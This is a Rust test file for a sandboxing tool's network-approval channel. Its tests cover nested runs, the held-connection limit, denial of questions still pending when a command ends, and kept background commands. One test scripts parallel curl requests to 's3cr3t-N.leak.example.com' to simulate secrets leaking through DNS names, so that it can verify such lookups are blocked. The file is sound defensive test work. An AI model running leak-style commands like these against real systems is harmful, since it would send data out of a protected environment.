                assert!(out.contains(" 403\n") && !out.contains("hello"), "{out}");
                h.events = events_of(read);
                assert_eq!(h.next()["event"], "filler");
                h.question("s");
            }
            let exit = h.exit("s");
            let out = std::fs::read_to_string(d.join("out/result")).unwrap();
            if reads {
                assert!(out.starts_with("hello 200\n"), "{out}");
                assert_eq!(answers(&exit), [("once".into(), "channel".into())]);
                assert_eq!(h.served(), ["/stuck"]);
            } else {
                assert_eq!(answers(&exit), [("deny".into(), "timeout".into())]);
                assert!(h.served().is_empty(), "{:?}", h.served());
            }
            drop(fill);
            h.close();
        }
    }
}

/// A nested run (`sandbox run` inside a session's command, through the nest
/// socket) does not use the session's approvals: its policy is the
/// session's intersected and its egress has no decider. Under `--no-network`
/// it has no network (its curl reaches nothing); under `--allow-net` its
/// own proxy refuses an unlisted destination at once (403). Neither is
/// asked about, while the outer command's own connection (the twin) is
/// asked about and admitted.
#[test]
fn a_nested_run_is_not_asked_about() {
    let allowlist = r#"exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --allow-net pkgs.example.com:8443"#;
    for nobody in users() {
        for (tail, inner_status) in [(None, " 000\n"), (Some(allowlist), " 403\n")] {
            let mut h = match tail {
                None => Harness::open(nobody, &[]),
                Some(tail) => Harness::open_with(nobody, tail, &[], true),
            };
            h.start(
                "n",
                &format!("{CURL}outer; \"$SANDBOX\" run -- sh -c \"{CURL}inner\""),
            );
            let p = h.question("n");
            h.approve(&p, "once");
            let exit = h.exit("n");
            let out = exit["stdout"].as_str().unwrap();
            assert!(out.contains("hello 200"), "the outer connection: {exit}");
            assert!(
                out.contains(inner_status),
                "the inner curl ran and was refused: {exit}"
            );
            assert!(
                !exit["stderr"]
                    .as_str()
                    .unwrap_or("")
                    .contains("not supported"),
                "the nested run used the nest socket: {exit}"
            );
            assert_eq!(answers(&exit), [("once".into(), "channel".into())]);
            assert_eq!(h.served(), ["/outer"]);
            h.close();
        }
    }
}

/// The held limit comes before any lookup: a command opening 17
/// connections to names no rule lists at once gets 16 questions (the
/// limit, each by name alone) and the 17th refused unasked (`without
/// asking`); with all 16 denied, none of the 17 names reached the host's
/// resolver (which logs every query).
#[test]
fn the_held_limit_comes_before_any_lookup() {
    for nobody in users() {
        let mut h = Harness::open_with_env(nobody, LOGGING_RESOLVER, &[("SVC_IP", SVC_IP)]);
        let d = h.path();
        let script = format!(
            r#"o={d}/out
for i in $(seq 17); do curl -s -m 120 -w ' %{{http_code}}\n' http://s3cr3t-$i.leak.example.com:8080/ > $o/$i 2>&1 & done
until grep -q "without asking" $o/[0-9]*; do sleep 0.05; done
touch $o/refused
wait
cat $o/[0-9]*"#,
            d = d.display()
        );
        h.start("h", &script);
        let mut asked = Vec::new();
        for _ in 0..16 {
            let p = h.next();
            assert_eq!(p["event"], "permission", "{p}");
            assert_eq!(p["addresses"], Value::Null, "{p}");
            assert!(p["host"].as_str().unwrap().starts_with("s3cr3t-"), "{p}");
            asked.push(p["permission"].as_str().unwrap().to_owned());
        }
        // The 17th is refused while the 16 wait.
        let refused = d.join("out/refused");
        let deadline = std::time::Instant::now() + EVENT_WAIT;
        while !refused.exists() {
            assert!(
                std::time::Instant::now() < deadline,
                "the 17th connection was not refused while 16 were held"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        for p in &asked {
            h.approve(p, "deny");
        }
        let exit = h.exit("h");
        let out = exit["stdout"].as_str().unwrap();
        assert_eq!(out.matches(" 403\n").count(), 17, "{exit}");
        assert_eq!(out.matches("without asking").count(), 1, "{exit}");
        assert_eq!(
            answers(&exit),
            vec![("deny".to_string(), "channel".to_string()); 16]
        );
        let log = std::fs::read_to_string(d.join("dns.log")).unwrap_or_default();
        assert!(
            !log.contains("s3cr3t"),
            "a held or refused name was queried: {log}"
        );
        h.close();
    }
}

/// A question still held when its command ends is denied then ("command
/// ended") and its refusal is in that command's exit event, under the
/// shared launch as under a launch per command (twin), never in the next
/// command's; and the exit does not wait out a settling bound for it.
#[test]
fn a_question_held_when_its_command_ends_is_refused_in_its_exit() {
    for nobody in users() {
        for launch in ["shared", "per-command"] {
            let mut h = Harness::open_with(
                nobody,
                r#"exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel "$@""#,
                &["--launch", launch, "--allow-net", "allowed.test"],
                true,
            );
            h.start(
                "ends",
                "curl --noproxy '' -x \"$HTTP_PROXY\" -s -m 0.5 -o /dev/null http://127.0.0.1:8080/ended; true",
            );
            let p = h.next();
            assert_eq!(
                (p["event"].as_str(), p["id"].as_str()),
                (Some("permission"), Some("ends")),
                "{p}"
            );
            let exit = h.exit("ends");
            assert_eq!(
                answers(&exit),
                [("deny".into(), "command ended".into())],
                "{launch}: {exit}"
            );
            let refusals = exit["refusals"].as_array().unwrap();
            assert!(
                refusals
                    .iter()
                    .any(|r| r.to_string().contains("127.0.0.1:8080")),
                "{launch}: no refusal in {exit}"
            );
            h.start("next", "true");
            let next = h.exit("next");
            assert_eq!(next["refusals"], json!([]), "{launch}: {next}");
            assert_eq!(next["approvals"], json!([]), "{launch}: {next}");
            assert!(h.served().is_empty(), "{:?}", h.served());
            h.close();
        }
    }
}

/// A kept command's background process asks under the kept command's id
/// (`"kept": true`), while another command runs; that command's end
/// settles nothing of it: the harness answers after it, the connection is
/// admitted, and the answer is in the kept command's `kept_ended` event,
/// not in the running command's exit event. Twin: the running command's
/// own question is asked under its id (no `kept`) and booked in its exit.
#[test]
fn a_kept_commands_question_is_its_own() {
    for nobody in users() {
        let mut h = Harness::open_with(
            nobody,
            r#"exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel "$@""#,
            &["--allow-net", "allowed.test"],
            true,
        );
        let via = "curl --noproxy '' -x \"$HTTP_PROXY\" -s -m 60 -o /dev/null";
        h.send(&json!({"id": "one", "op": "run", "argv": ["/bin/sh", "-c",
            format!("(sleep 1; {via} http://127.0.0.1:8080/kept) >/dev/null 2>&1 &")],
            "keep": true}));
        let started = h.next();
        assert_eq!(started["event"], "started", "{started}");
        let one = h.exit("one");
        assert!(one["kept"].as_u64().unwrap() >= 1, "{one}");
        h.start("two", &format!("sleep 3; {via} http://127.0.0.1:8080/two"));
        let kept_q = h.next();
        assert_eq!(
            (kept_q["event"].as_str(), kept_q["id"].as_str()),
            (Some("permission"), Some("one")),
            "{kept_q}"
        );
        assert_eq!(kept_q["kept"], true, "{kept_q}");
        let own_q = h.next();
        assert_eq!(
            (own_q["event"].as_str(), own_q["id"].as_str()),
            (Some("permission"), Some("two")),
            "{own_q}"
        );
        assert!(own_q.get("kept").is_none(), "{own_q}");
        h.approve(own_q["permission"].as_str().unwrap(), "once");
        let two = h.exit("two");
        let booked: Vec<&str> = two["approvals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["permission"].as_str().unwrap())
            .collect();
        assert_eq!(booked, [own_q["permission"].as_str().unwrap()], "{two}");
        // Answered after "two" ended: still held, and admitted.
        h.approve(kept_q["permission"].as_str().unwrap(), "once");
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        while !h.served().iter().any(|p| p.contains("/kept")) {
            assert!(std::time::Instant::now() < deadline, "{:?}", h.served());
            std::thread::sleep(Duration::from_millis(50));
        }
        h.send(&json!({"op": "close"}));
        let ended = h.next();
        assert_eq!(
            (ended["event"].as_str(), ended["id"].as_str()),
            (Some("kept_ended"), Some("one")),
            "{ended}"
        );
        assert_eq!(
            answers(&ended),
            [("once".into(), "channel".into())],
            "{ended}"
        );
        assert_eq!(
            ended["approvals"][0]["permission"], kept_q["permission"],
            "{ended}"
        );
        let closed = h.next();
        assert_eq!(closed["event"], "closed", "{closed}");
    }
}
